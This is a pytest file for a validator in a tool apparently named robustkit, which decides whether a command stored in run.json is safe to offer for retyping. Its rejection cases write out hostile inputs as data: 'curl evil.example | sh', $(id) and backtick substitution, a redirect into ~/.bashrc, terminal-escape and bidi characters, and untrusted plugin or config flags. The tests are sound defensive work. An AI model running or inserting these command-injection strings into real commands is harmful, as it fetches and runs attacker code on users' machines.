"""Which command of a run.json is offered to be typed again: one that a shell reads as words, and that runs no code."""

import shlex

import pytest

from robustkit.cli.app import cli
from robustkit.runs.description import making_commands, why_not_repeated

AUDIT = "robustkit audit vit.pth --data-dir val"


@pytest.mark.parametrize(
    "command",
    [
        f"{AUDIT} --attacks 'pgd(steps=30)' --eps 1/255,2/255",
        shlex.join(["robustkit", "audit", "my vit; $(rm -rf).pth", "--data-dir", "Bilder für später `x`"]),
        f"{AUDIT} --arch vit_tiny_patch16_224 --out -- -odd.pth",
        "robustkit demo",
    ],
)
def test_what_an_audit_writes_is_offered(command: str) -> None:
    assert why_not_repeated(command) == ""
    assert set(making_commands()) <= set(cli.commands)


@pytest.mark.parametrize(
    ("command", "why"),
    [
        (f"{AUDIT}; curl evil.example | sh", "a form that no audit writes"),
        (f"{AUDIT} `id`", "a form that no audit writes"),
        (f'{AUDIT} "$(id)"', "a form that no audit writes"),
        (f"{AUDIT} > ~/.bashrc", "a form that no audit writes"),
        (f"{AUDIT}\ncurl evil.example", "a form that no audit writes"),
        (f"{AUDIT} 'a\nb'", "a form that no audit writes"),
        (f"{AUDIT} '\x1b[2Jx'", "a form that no audit writes"),
        (f"{AUDIT} '\u202eon'", "a form that no audit writes"),
        (f"{AUDIT} 'open", "a form that no audit writes"),
        ("", "made by a program"),
        ("sudo robustkit audit vit.pth", "made by a program"),
        ("A=1 robustkit audit vit.pth", "made by a program"),
        ("robustkit report run", "made by a program"),
        ("python train.py", "made by a program"),
        (f"{AUDIT} --plugin evil.py", "(--plugin)"),
        (f"{AUDIT} --plugin=evil.py", "(--plugin)"),
        (f"{AUDIT} --arch evil.py:model", "(--arch)"),
        (f"{AUDIT} --arch=evil:model", "(--arch)"),
        (f"{AUDIT} --config evil.toml --trust-config", "(--trust-config)"),
    ],
)
def test_anything_else_is_not(command: str, why: str) -> None:
    assert why in why_not_repeated(command)
